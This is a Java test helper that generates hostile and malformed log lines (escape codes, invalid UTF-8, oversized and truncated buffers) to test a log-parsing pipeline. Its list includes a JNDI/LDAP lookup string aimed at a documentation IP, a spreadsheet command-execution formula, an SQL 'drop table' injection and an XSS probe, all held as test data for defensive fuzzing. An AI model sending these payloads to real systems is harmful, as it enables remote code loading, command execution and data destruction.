package io.correlator.testkit;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.correlator.api.Block;
import io.correlator.api.Block.Counting;
import io.correlator.api.Block.Provenance;
import io.correlator.api.Fields;
import io.correlator.api.LogRecord;
import io.correlator.api.ParseFailure;
import io.correlator.api.RecordHeader;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/** What an attacker, a broken program or a full disk may put into a log. */
final class HostileLines {
  private static final int LONGEST = 64 * 1024;
  private static final int CUTS = 40;

  private HostileLines() {}

  /** Lines that are hostile by themselves. */
  static List<byte[]> any() {
    List<byte[]> lines = new ArrayList<>();
    for (String text :
        List.of(
            "",
            " ",
            "\t",
            "\u0000",
            "a\u0000b\u0000",
            "\u001b[2J\u001b]0;title\u0007",
            "\u202eright to left\u2028new line\u2029",
            "${jndi:ldap://192.0.2.1/a} ${user} %s %n {} <script>alert(1)</script>",
            "=cmd|' /C calc'!A0",
            "'; drop table events; --",
            "\ufeffbyte order mark",
            "key=value key=\"unclosed",
            "{\"a\":{\"b\":[1,2",
            "<999>1 - - - - - -",
            "999999999999999999999999999999 -1 0x7fffffff NaN")) {
      lines.add(text.getBytes(UTF_8));
    }
    lines.add(new byte[] {(byte) 0xff, (byte) 0xfe, (byte) 0xc0, (byte) 0x80, 'a', (byte) 0xe2});
    lines.add(repeated('a', LONGEST));
    lines.add(repeated(' ', LONGEST));
    lines.add(repeated(0, LONGEST));
    lines.add(repeated(0xff, LONGEST));
    lines.add(repeated('(', LONGEST));
    return lines;
  }

  private static byte[] repeated(int value, int count) {
    byte[] bytes = new byte[count];
    Arrays.fill(bytes, (byte) value);
    return bytes;
  }

  /** Good lines, cut off, broken by bytes that do not belong there, and very long. */
  static List<byte[]> madeOf(List<String> goodLines) {
    List<byte[]> lines = new ArrayList<>();
    for (String good : goodLines) {
      byte[] bytes = good.getBytes(UTF_8);
      int step = Math.max(1, bytes.length / CUTS);
      for (int cut = 0; cut < bytes.length; cut += step) {
        lines.add(Arrays.copyOf(bytes, cut));
        lines.add(Arrays.copyOfRange(bytes, cut, bytes.length));
        for (int wrong : new int[] {0, 0xff, 0x1b, ' '}) {
          byte[] broken = bytes.clone();
          broken[cut] = (byte) wrong;
          lines.add(broken);
        }
      }
      lines.add(Arrays.copyOf(bytes, LONGEST));
    }
    return lines;
  }

  /** Lines that no format could read, one for each reason, and one that was cut off. */
  static List<LogRecord> failed() {
    List<LogRecord> records = new ArrayList<>();
    for (ParseFailure reason : ParseFailure.values()) {
      RecordHeader header = new RecordHeader();
      header.failed(reason);
      byte[] bytes = ("failed: " + reason).getBytes(UTF_8);
      records.add(
          block(bytes, records.size()).record(0, bytes.length, 0, header, TestPipeline.START));
    }
    byte[] bytes = repeated('a', LONGEST);
    records.add(
        block(bytes, records.size())
            .truncatedRecord(0, LONGEST, 0, new RecordHeader(), TestPipeline.START));
    return records;
  }

  private static Block block(byte[] bytes, long position) {
    Provenance provenance =
        new Provenance("hostile", 0, Counting.RECORDS, "test", record -> Fields.empty());
    return Block.of(bytes, provenance, position, 0, TestPipeline.START);
  }
}
